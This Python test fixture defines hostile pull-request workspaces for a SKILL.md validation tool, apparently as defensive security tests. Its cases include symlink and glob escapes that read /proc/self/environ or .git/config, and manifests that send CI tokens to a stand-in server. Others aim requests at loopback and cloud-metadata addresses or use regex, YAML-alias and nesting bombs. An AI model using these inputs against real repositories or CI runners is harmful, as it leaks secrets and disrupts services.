"""What a pull request from a stranger may try, with what a user then sees.

Each attack is files of a workspace. Beside the workspace lies a folder `outside`, whose file must
be neither read nor named; a server on loopback hears what it should not.
"""

from __future__ import annotations

import subprocess
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

PRECIOUS = "precious-value"
"""In the name and the text of the file outside, and in the environment; never in what is said."""

SERVER = "http://server.invalid"
"""Stands for the server's address."""

BROKEN = "name: 7\n"
FENCED = f"---\n{BROKEN}---\n"
OTHER = "OTHER_TOKEN"

SKILL = "a/SKILL.md"
ODD = 'rename it to "SKILL.md"'
TIDY = "---\nname: tidy\ndescription: Tidies up.\n---\n"
SKILLS = "collections: [{name: skills, paths: ['**/SKILL.md']}]\n"
MANIFEST = (
    "collections:\n  - name: skills\n    paths: ['**/SKILL.md']\n    externalMetadata:\n"
    f"      - {{file: '{SERVER}/m.yaml', keys: [owner], tokenEnv: NAME}}\n"
)
META = "meta: {schemas: ['anthropic:claude-skill:2.1']}\n"


@dataclass(frozen=True)
class Link:
    """A symbolic link and where it leads."""

    target: str


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        files: of the workspace, by path.
        says: what is to be read in what a run prints.
        code: of the run.
        tracked: what is added to git's index, whatever ignores it.
        index: the version of that index.
        inputs: of the step; the command line is given the same options.
    """

    files: Mapping[str, str | bytes | Link]
    says: str
    code: int = 1
    tracked: tuple[str, ...] = ()
    index: int = 2
    inputs: Mapping[str, str] = field(default_factory=dict)


def _walk_out(pattern: str) -> Attack:
    config = f"collections: [{{name: all, paths: ['{pattern}']}}]\n{META}"
    return Attack({"manni.config.yaml": config, SKILL: TIDY}, "leads out of the directory", 2)


def _link(at: str, target: str) -> Attack:
    return Attack({at: Link(target), "b/SKILL.md": TIDY}, "a symbolic link that leads out of")


def _send(variable: str, says: str, **inputs: str) -> Attack:
    config = MANIFEST.replace("NAME", variable) + META
    return Attack({"manni.config.yaml": config, SKILL: TIDY}, says, 2, inputs=inputs)


def _reach(host: str) -> Attack:
    front = f'---\nname: tidy\n"$schema": "{host}/s.json"\n---\n'
    return Attack({SKILL: front}, "not at a public address")


def _hide(ignore: str, pattern: str, skill: str = SKILL, index: int = 2) -> Attack:
    return Attack({ignore: pattern, skill: FENCED}, f"{skill}", tracked=(skill,), index=index)


def _mislay(text: str | bytes, schema: str = "[manni]") -> Attack:
    return Attack({SKILL: text}, schema)


_SLOW = '{"properties": {"name": {"pattern": "^(a+)+$"}}}'

ATTACKS = {
    "walk out by braces": _walk_out("{..,x}/{..,x}/outside/**"),
    "walk out by an empty brace": _walk_out("{.,}./outside/**"),
    "walk out from below": _walk_out("a/{../..,b}/outside/**"),
    "walk out by a group": _walk_out("@(..|x)/outside/**"),
    "link to a file outside": _link(SKILL, f"../../outside/{PRECIOUS}.md"),
    "link to a folder outside": _link("skills", "../outside"),
    "link to git's own files": _link(SKILL, "../.git/config"),
    "link to the process": _link(SKILL, "/proc/self/environ"),
    "send the runner's token": _send("ACTIONS_RUNTIME_TOKEN", "ACTIONS_RUNTIME_TOKEN"),
    "send it to an allowed host": _send(
        "ACTIONS_RUNTIME_TOKEN", "ACTIONS_RUNTIME_TOKEN", allow_hosts="127.0.0.1"
    ),
    "send a variable that others were named beside": _send(
        "DOCS_TOKEN", "DOCS_TOKEN", allow_hosts="127.0.0.1", token_envs=OTHER
    ),
    "reach loopback from the config": Attack(
        {"manni.config.yaml": f"{SKILLS}meta: {{schemas: ['{SERVER}/s.json']}}\n", SKILL: TIDY},
        "not at a public address",
        2,
    ),
    "reach loopback from a manifest": Attack(
        {"manni.config.yaml": MANIFEST.replace(", tokenEnv: NAME", "") + META, SKILL: TIDY},
        "not at a public address",
        2,
    ),
    "reach loopback from a document": _reach(SERVER),
    "reach loopback by a redirect": Attack(
        {SKILL: f'---\nname: tidy\n"$schema": "{SERVER}/elsewhere"\n---\n'},
        "not at a public address",
        inputs={"allow_hosts": "server.invalid"},
    ),
    **{
        f"reach {host}": _reach(f"http://{host}")
        for host in (
            *("localhost", "127.1", "0x7f000001", "169.254.169.254", "10.0.0.1", "192.0.0.192"),
            *("168.63.129.16", "100.64.0.1", "[::1]", "[::ffff:127.0.0.1]", "[::127.0.0.1]"),
            *("[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fec0::1]", "[fe80::1]", "[fd00::1]"),
        )
    },
    "ignore beside it": _hide("a/.gitignore", "*\n"),
    "ignore its folder": _hide(".gitignore", "a/\n"),
    "ignore its name": _hide(".gitignore", "SKILL.md\n"),
    "ignore with an index of version 3": _hide("a/.gitignore", "*\n", index=3),
    "ignore with an index of version 4": _hide("a/.gitignore", "*\n", index=4),
    "a folder of packages": _hide("b", "", skill="node_modules/SKILL.md"),
    "ignore a link": Attack(
        {"a/x.md": FENCED, "b/SKILL.md": Link("../a/x.md"), ".gitignore": "b\n"},
        "b/SKILL.md",
        tracked=("b/SKILL.md",),
    ),
    "ignore where a link leads": Attack(
        {"out/SKILL.md": FENCED, "skills": Link("out"), ".gitignore": "out/\n"},
        "SKILL.md",
        tracked=("skills", "out/SKILL.md"),
    ),
    **{
        f"mislay behind {before!r}": _mislay(before + FENCED)
        for before in (
            *("\u00a0", "\u200b", "\u2060", "\x0b", "\x0c", "\ufeff\ufeff", "\u202e", " ", "\n\n"),
            *("<!-- x -->\n", "%YAML 1.2\n", "\u2028", "\x00", "<!--\n\n-->\n\n"),
        )
    },
    **{
        f"mislay between {fence!r}": _mislay(f"{fence}\n{BROKEN}{fence}\n")
        for fence in ("----", "--- ", "\u2014", "\u2014\u2014\u2014", "\u2013\u2013\u2013")
    },
    **{
        f"mislay by lines that end in {end!r}": _mislay(FENCED.replace("\n", end))
        for end in ("\x85", "\u2028", "\u2029")
    },
    **{
        f"mislay as {encoding}": _mislay(FENCED.encode(encoding), "[(parse)]")
        for encoding in ("utf-16-le", "utf-16-be", "utf-16", "utf-32-le", "utf-32-be")
    },
    **{
        f"misspell its name as {name}": Attack({f".claude/skills/a/{name}": FENCED}, ODD)
        for name in ("skill.md", "SKILL.MD", "Skill.md")
    },
    "mislay by no end": _mislay(f"---\n{BROKEN}"),
    "hang by a pattern": Attack(
        {
            "s.json": _SLOW,
            "manni.config.yaml": f"{SKILLS}meta: {{schemas: [s.json]}}\n",
            SKILL: f"---\nname: {'a' * 5_000}!\n---\n",
        },
        "^(a+)+$",
    ),
    "hang by aliases": Attack(
        {
            SKILL: "---\na0: &a0 [x]\n"
            + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
            + "---\n"
        },
        "alias",
    ),
    "hang by depth": Attack({SKILL: f"---\na: {'[' * 50_000}\n---\n"}, SKILL),
    "hang by a glob": Attack(
        {"manni.config.yaml": "collections: [{name: a, paths: ['*(*(a))b']}]\n", SKILL: TIDY},
        "*(*(a))b",
        2,
    ),
}


def lay_out(attack: Attack, workspace: Path, address: str = SERVER) -> None:
    """Make the workspace of an attack, a real repository, and the folder outside."""
    outside = workspace.parent / "outside"
    outside.mkdir()
    (outside / f"{PRECIOUS}.md").write_text(FENCED.replace("7", f"[{PRECIOUS}]"), encoding="utf-8")
    (outside / "SKILL.md").write_text(f"---\nname: [{PRECIOUS}]\n---\n", encoding="utf-8")
    git = ["git", "-C", str(workspace)]
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    for name, content in attack.files.items():
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Link):
            path.symlink_to(content.target)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_bytes(content.replace(SERVER, address).encode())
    if attack.tracked:
        subprocess.run([*git, "add", "-f", *attack.tracked], check=True)
        if attack.index == 3:  # git writes it where a file is only meant to be added
            (workspace / "later.md").touch()
            subprocess.run([*git, "add", "-N", "-f", "later.md"], check=True)
        version = str(attack.index)
        subprocess.run([*git, "update-index", "--index-version", version], check=True)
        assert (workspace / ".git/index").read_bytes()[7] == attack.index
